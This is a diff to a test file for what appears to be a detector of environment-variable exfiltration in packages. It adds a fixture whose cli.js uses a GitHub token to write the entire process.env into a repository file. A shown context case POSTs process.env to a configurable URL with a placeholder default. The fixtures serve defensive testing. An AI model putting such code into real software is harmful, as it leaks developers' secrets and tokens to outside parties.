@@ -26,6 +26,14 @@ examine(sendsEnvironment, {
       weight: 'strong',
     },
     {
+      when: 'a command puts all of it into a file of a repository, by a library',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `#!/usr/bin/env node\nconst { Octokit } = require('@octokit/rest'); const client = new Octokit({ auth: process.env.GIT_TOKEN }); client.rest.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: 'r.json', content: Buffer.from(JSON.stringify(process.env)).toString('base64') });`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'where it goes is a setting, and what stands in the code where nobody sets it',
       files: {
         'index.js': `const { COLLECT_URL = 'https://c.invalid/x' } = process.env; fetch(COLLECT_URL, { method: 'POST', body: JSON.stringify(process.env) })`,
